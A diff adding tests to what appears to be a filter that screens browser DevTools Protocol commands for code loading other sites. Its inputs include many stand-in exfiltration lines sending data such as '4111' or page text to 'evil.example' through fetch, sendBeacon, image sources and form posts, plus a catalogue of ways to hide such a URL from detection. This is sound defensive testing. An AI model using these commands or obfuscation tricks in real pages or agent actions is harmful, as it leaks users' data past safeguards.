@@ -260,10 +260,92 @@ t.test('code naming another site in any JavaScript string spelling is read as th
   t.same(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: "document.title + '\\u0041'" }))), { urls: [] }, 'escapes naming no URL load nothing');
 });
 
+// A URL the code assembles from pieces none of which is one (twenty-first pass, left open by the
+// twentieth): `'ht' + 'tps:/' + '/evil.example'`, `'/' + '/evil.example/c'`, character codes, a list
+// joined, a literal decoded, a template's literal substitutions were read as no URL and the browser
+// went there. The pieces are now joined as the engine joins them; a host made at run time
+// (`'//' + h`) refuses the command. fast-check over where the URL is cut × how each piece is
+// spelled × how the pieces are joined × the statement that loads it.
+const pieceSpelling: Record<string, (s: string) => string> = {
+  single: (s) => `'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`,
+  double: (s) => JSON.stringify(s),
+  template: (s) => `\`${s.replace(/[`\\$]/g, (c) => `\\${c}`)}\``,
+  charCodes: (s) => `String.fromCharCode(${[...s].map((c) => c.charCodeAt(0)).join(', ')})`,
+  codePointsSpread: (s) => `String.fromCodePoint(...[${[...s].map((c) => `0x${c.charCodeAt(0).toString(16)}`).join(',')}])`,
+  decoded: (s) => `decodeURIComponent('${[...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}')`,
+  unescaped: (s) => `unescape("${s.replace(/[:/.]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}")`,
+};
+const literalOnly = ['single', 'double', 'template'];
+const joinPieces: Record<string, (pieces: string[], raw: string[]) => string> = {
+  plus: (p) => p.join(' + '),
+  concat: (p) => p.slice(1).reduce((acc, x) => `${acc}.concat(${x})`, p[0]!),
+  list: (_p, raw) => `[${raw.map((r) => `'${r}'`).join(', ')}].join('')`,
+  template: (_p, raw) => `\`${raw.map((r) => `\${'${r}'}`).join('')}\``,
+};
+t.test('a URL the code assembles from literal pieces is read as that URL, in any cut, spelling and joining', async (t) => {
+  const url = 'https://evil.example/c?d=4111';
+  fc.assert(fc.property(
+    fc.uniqueArray(fc.integer({ min: 1, max: url.length - 1 }), { minLength: 1, maxLength: 3 }),
+    fc.array(fc.constantFrom(...Object.keys(pieceSpelling)), { minLength: 4, maxLength: 4 }),
+    fc.constantFrom(...Object.keys(joinPieces)),
+    fc.constantFrom('fetch(%)', 'location.href = %', 'new Image().src = %', "Object.assign(document.createElement('form'), { action: %, method: 'post' }).submit()"),
+    fc.constantFrom('Runtime.evaluate', 'Runtime.callFunctionOn'),
+    (cuts, spellings, join, stmt, method) => {
+      const at = [0, ...cuts.sort((x, y) => x - y), url.length];
+      const raw = at.slice(1).map((end, i) => url.slice(at[i], end));
+      // The list and template joinings take literals; the others any spelling.
+      const pieces = raw.map((r, i) => pieceSpelling[join === 'plus' || join === 'concat' ? spellings[i]! : literalOnly[i % 3]!]!(r));
+      const code = stmt.replace('%', joinPieces[join]!(pieces, raw));
+      const params = method === 'Runtime.evaluate' ? { expression: code } : { functionDeclaration: `function () { ${code}; }`, objectId: 'o1' };
+      const r = cdpLoadsOf(JSON.stringify(cdp(method, params)));
+      if (r.refused || r.urls.some((u) => new URL(u).hostname === 'evil.example')) return true;
+      t.fail(`${code} was read as ${JSON.stringify(r)}`);
+      return false;
+    },
+  ), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) });
+});
+
+t.test('a URL whose host the code makes at run time is refused; the page\'s own site and text made of pieces are not', async (t) => {
+  const host = ['h', 'atob(h)', 'String.fromCharCode(...codes)', "['evil', 'example'].join(sep)", 'hosts[i]'];
+  const around: Array<(h: string) => string> = [
+    (h) => `fetch('//' + ${h} + '/c?d=4111')`,
+    (h) => `fetch("https://" + ${h})`,
+    (h) => `fetch(\`//\${${h}}/c?d=4111\`)`,
+    (h) => `location.href = \`https://\${${h}}/\``,
+    (h) => `new Image().src = 'https://x@'.concat(${h}, '/c')`,
+    (h) => `fetch('https:/' + '/' + ${h})`,
+    (h) => `location.hostname = ${h}`,
+    (h) => `navigator.sendBeacon('//'.concat(${h}), document.body.innerText)`,
+  ];
+  for (const a of around) {
+    for (const h of host) {
+      const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: a(h) })));
+      t.ok(r.refused, `refused: ${a(h)}`);
+    }
+  }
+  for (const code of [
+    "fetch(location.protocol + '//' + location.host + '/api/items')",
+    "fetch('//' + location.hostname + '/x')",
+    'fetch(`${location.origin}/api`)',
+    'fetch(`//${window.location.host}/x`)',
+    "document.title = 'Total: ' + n + ' items'",
+    'String.fromCharCode(65, 66) + String.fromCharCode(code)',
+    "['a', 'b'].join(', ')",
+    "fetch('https://docs.example' + '/guide?page=' + n)",
+    "u.host === 'docs.example' && u.hostname == h",
+    "s.startsWith('//') || s.startsWith('..')",
+  ]) {
+    const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code })));
+    t.ok(!r.refused && r.urls.every((u) => new URL(u).hostname === 'docs.example'), `goes on: ${code} (${JSON.stringify(r)})`);
+  }
+});
+
 t.test('code that makes its host at run time, or names more URLs than are decided, closes the socket', async (t) => {
   const srcset = [...Array.from({ length: 16 }, (_, i) => `https://docs.example/${i}.png ${i + 1}x`), 'https://evil.example/?d=4111 17x'].join(', ');
   for (const msg of [
     cdp('Runtime.evaluate', { expression: "fetch('https://' + atob(h) + '/?d=4111')" }),
+    cdp('Runtime.evaluate', { expression: "const h = 'evil.example'; fetch('//' + h + '/?d=4111')" }),
+    cdp('Runtime.callFunctionOn', { functionDeclaration: "() => fetch('ht' + 'tps:/' + '/evil.example/?d=4111')", objectId: 'o1' }),
     cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: srcset }),
   ]) t.equal((await session([JSON.stringify(msg)], [], 'browser.example')).code, 1008, String(msg.method));
   t.notOk(ranText().includes('4111'), 'nothing reached the browser');
